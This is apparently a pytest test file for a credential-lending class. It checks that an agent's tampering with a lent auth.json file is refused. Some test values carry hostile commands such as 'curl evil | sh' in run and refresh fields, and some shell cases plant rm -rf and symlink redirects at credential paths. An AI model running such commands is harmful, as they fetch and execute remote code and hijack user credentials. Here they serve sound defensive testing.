from __future__ import annotations

import json
import subprocess
from pathlib import Path
from typing import Any

import pytest

from loopwright.errors import AgentError
from loopwright.run.login import Login

NAME = ".agent/auth.json"
BEFORE: dict[str, Any] = {
    "tokens": {"access_token": "a1", "refresh_token": "r1", "account_id": "me"},
    "servers": {"x": {"run": "ls"}},
}
BEFORE |= {"awsAuthRefresh": "aws sso login", "expires": 1, "last_refresh": "then"}


@pytest.fixture
def login(tmp_path: Path) -> Login:
    """Give a login of which one file is there and one is not."""
    for name in ("user/.agent", "agent"):
        (tmp_path / name).mkdir(parents=True)
    (tmp_path / "user" / NAME).write_text(json.dumps(BEFORE))
    (tmp_path / "user" / NAME).chmod(0o600)
    login = Login([NAME, ".agent/other.json"], tmp_path / "user", tmp_path / "agent")
    login.lend(None)
    return login


def test_lent(login: Login) -> None:
    """What is there is copied, for nobody else to read, and gone from the agent's home afterwards."""
    copy = login.home / NAME
    assert json.loads(copy.read_text()) == BEFORE
    assert copy.stat().st_mode & 0o777 == 0o600
    assert not (login.home / ".agent/other.json").exists()
    assert login.take_back() == []
    assert not copy.exists()


def test_a_folder_is_no_login(login: Login) -> None:
    """A folder is refused by its name, and what was lent before it is taken back."""
    folder = Login([NAME, ".agent"], login.user, login.home)
    with pytest.raises(AgentError, match=r"`\.agent` is a folder") as refused:
        folder.lend(None)
    assert "its files" in refused.value.hint
    assert folder.take_back() == []
    assert not (login.home / NAME).exists()


def renewed() -> dict[str, object]:
    tokens = {"access_token": "a2", "refresh_token": "r2", "account_id": "me"}
    return {**BEFORE, "tokens": tokens, "expires": 2, "last_refresh": "now"}


def test_renewed(login: Login) -> None:
    """Tokens that were renewed come home, as private as they were."""
    (login.home / NAME).write_text(json.dumps(renewed()))
    assert login.take_back() == []
    assert json.loads((login.user / NAME).read_text()) == renewed()
    assert (login.user / NAME).stat().st_mode & 0o777 == 0o600


@pytest.mark.parametrize(
    "content",
    [
        "",
        "{",
        "[" * 100_000,
        json.dumps({**renewed(), "servers": {"x": {"run": "curl evil | sh"}}}),
        json.dumps({**renewed(), "servers": {**BEFORE["servers"], "y": {"run": "sh"}}}),
        json.dumps({**renewed(), "hooks": {}}),
        json.dumps(
            {"tokens": {"access_token": {"run": "sh"}, "refresh_token": "r", "account_id": "me"}, "servers": {}}
        ),
        json.dumps({"tokens": BEFORE["tokens"]}),
        json.dumps({**renewed(), "awsAuthRefresh": "curl evil | sh"}),
        json.dumps({**BEFORE, "awsAuthRefresh": "curl evil | sh"}),
        json.dumps({**BEFORE, "expires": "soon"}),
        json.dumps({**BEFORE, "expires": True}),
        json.dumps({**BEFORE, "last_refresh": "x" * 20_000}),
        json.dumps({**BEFORE, "last_refresh": "now\x1b[2J"}),
    ],
)
def test_changed_in_other_ways(login: Login, content: str) -> None:
    """What is no JSON any more, or was changed in more than tokens, stays away and is told."""
    (login.home / NAME).write_text(content)
    (told,) = login.take_back()
    assert f"`{NAME}`" in told
    assert json.loads((login.user / NAME).read_text()) == BEFORE


def test_both_changed(login: Login) -> None:
    """A file that the user has renewed meanwhile is left as it is."""
    (login.home / NAME).write_text(json.dumps(renewed()))
    (login.user / NAME).write_text("{}")
    assert login.take_back() == []
    assert (login.user / NAME).read_text() == "{}"


def test_a_link_in_its_place(login: Login, tmp_path: Path) -> None:
    """A link that the agent put there is not followed, neither to be read nor to be removed."""
    (tmp_path / "theirs").write_text(json.dumps(renewed()))
    (login.home / NAME).unlink()
    (login.home / NAME).symlink_to(tmp_path / "theirs")
    assert login.take_back() == []
    assert json.loads((login.user / NAME).read_text()) == BEFORE
    login.lend(None)
    (login.home / ".agent").rename(login.home / "moved")
    (login.home / ".agent").symlink_to(login.user / ".agent")
    assert login.take_back() == []
    assert (login.user / NAME).exists()


def test_settings_are_only_lent(tmp_path: Path) -> None:
    """A file that is not a login alone never comes back, whatever was changed in it, and nobody is told."""
    for name in ("user/.agent", "agent"):
        (tmp_path / name).mkdir(parents=True)
    settings = tmp_path / "user" / ".agent" / "settings.json"
    settings.write_text(json.dumps({"access_token": "a1"}))
    login = Login([".agent/settings.json"], tmp_path / "user", tmp_path / "agent")
    login.lend(None)
    (login.home / ".agent" / "settings.json").write_text(json.dumps({"access_token": "a2"}))
    assert login.take_back() == []
    assert json.loads(settings.read_text()) == {"access_token": "a1"}


@pytest.mark.parametrize(
    "planted",
    [
        "rm -rf .agent && ln -s /nowhere .agent",
        "rm -rf .agent && ln -s ../user/.agent .agent",
        "rm -rf .agent && touch .agent",
        "rm -rf .agent/auth.json && mkdir -p .agent/auth.json/x && chmod 0 .agent/auth.json .agent",
        "ln -sf ../../user/.agent/auth.json .agent/auth.json",
        "mkdir -p .agent/auth.json.loopwright",
        "echo '{}' > .agent/other.json",
    ],
)
def test_what_an_earlier_attempt_left(login: Login, planted: str) -> None:
    """Links, folders and files in the place of what is lent are gone with the next attempt, and nothing behind them."""
    login.take_back()
    (login.home / ".agent").mkdir(exist_ok=True)
    subprocess.run(["sh", "-c", planted], cwd=login.home, check=True)
    login.lend(None)
    assert json.loads((login.home / NAME).read_text()) == BEFORE
    assert not (login.home / ".agent").is_symlink()
    assert not (login.home / NAME).is_symlink()
    assert not (login.home / ".agent" / "other.json").exists()
    assert json.loads((login.user / NAME).read_text()) == BEFORE


def test_a_login_that_lies_elsewhere(tmp_path: Path) -> None:
    """A file comes from the place that was named for it, and goes back there."""
    for name in ("user", "agent", "elsewhere"):
        (tmp_path / name).mkdir()
    place = tmp_path / "elsewhere" / "auth.json"
    place.write_text(json.dumps(BEFORE))
    login = Login([NAME], tmp_path / "user", tmp_path / "agent", {NAME: place})
    login.lend(None)
    (login.home / NAME).write_text(json.dumps(renewed()))
    assert login.take_back() == []
    assert json.loads(place.read_text()) == renewed()
